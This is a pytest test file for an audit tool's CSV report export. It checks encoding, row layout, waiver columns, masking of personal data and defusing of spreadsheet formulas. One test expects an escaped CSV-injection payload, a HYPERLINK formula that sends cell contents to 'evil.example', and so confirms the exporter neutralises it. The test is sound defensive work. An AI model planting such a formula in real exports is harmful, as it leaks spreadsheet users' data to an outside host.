"""findings.csv: every finding once, in a form that spreadsheets open and never run."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from auditor.model.answer import Answer
from auditor.model.result import AuditResult
from auditor.report.columns import CSV_COLUMNS, FINDING_COLUMNS
from auditor.report.labels import LABELS
from auditor.report.write import write_reports
from tests.report.pasts import lived_in
from tests.report.results import HOSTILE, PHONE, sample_result


def rows(folder: Path, lang: str = "zh", result: AuditResult | None = None) -> list[list[str]]:
    (path,) = write_reports(result or sample_result(), folder, ["csv"], lang=lang)
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_the_file_starts_with_a_byte_order_mark_and_ends_lines_as_excel_does(tmp_path: Path) -> None:
    (path,) = write_reports(sample_result(), tmp_path, ["csv"])
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_finding_stands_in_one_row(lang: str, tmp_path: Path) -> None:
    head, *body = rows(tmp_path, lang)
    assert head == [LABELS[column.label].in_language(lang) for column in CSV_COLUMNS]
    assert len(body) == len(sample_result().findings)
    assert {len(row) for row in body} == {len(head)}
    mark = len(FINDING_COLUMNS) - 1
    assert [row[mark] for row in body] == [one.fingerprint for one in sample_result().findings]


def test_new_columns_stand_behind_the_old_ones() -> None:
    assert CSV_COLUMNS[: len(FINDING_COLUMNS)] == FINDING_COLUMNS
    assert [column.label for column in CSV_COLUMNS[len(FINDING_COLUMNS) :]] == [
        "waiver_by",
        "waiver_until",
        "waiver_reason",
        "answer_owner",
        "answer_status",
    ]


def test_waivers_and_answers_stand_beside_their_findings(tmp_path: Path) -> None:
    head, *body = rows(tmp_path, result=lived_in())
    told = [
        tuple(row[head.index(name)] for name in ("结论", "豁免人", "豁免至", "处理人", "处理状态"))
        for row in body
        if row[head.index("豁免人")]
    ]
    assert told == [
        ("不符合", "王示例", "2026-12-31", "赵示例", "接受风险"),
        ("无法判定", "王示例", "2026-11-30", "", ""),
    ]
    assert "等法务" in {row[head.index("处理状态")] for row in body}


def test_what_people_typed_is_masked_and_defused(tmp_path: Path) -> None:
    result = lived_in()
    owned = replace(
        result.findings[0], answer=Answer(result.findings[0].fingerprint, f"王示例 {PHONE}", status="=1+1")
    )
    head, *body = rows(tmp_path, result=replace(result, findings=(owned, *result.findings[1:])))
    assert body[0][head.index("处理人")] == "王示例 138****0138"
    assert body[0][head.index("处理状态")] == "'=1+1"


def test_no_cell_can_start_a_formula(tmp_path: Path) -> None:
    cells = [cell for row in rows(tmp_path) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells


def test_no_cell_hides_anything_or_outgrows_a_cell(tmp_path: Path) -> None:
    cells = [cell for row in rows(tmp_path) for cell in row]
    assert max(map(len, cells)) <= 32_767
    assert not [cell for cell in cells if any(mark in cell for mark in "\x00\x1b\u202e\u200b\u2028")]
    assert len(HOSTILE) > 20


def test_dates_stand_in_iso_form(tmp_path: Path) -> None:
    head, *body = rows(tmp_path)
    due = {row[head.index("应完成日期")] for row in body}
    assert due == {"", "2026-11-23", "2026-12-07", "2027-02-09"}


def test_the_same_result_gives_the_same_bytes(tmp_path: Path) -> None:
    assert rows(tmp_path / "1") == rows(tmp_path / "2")
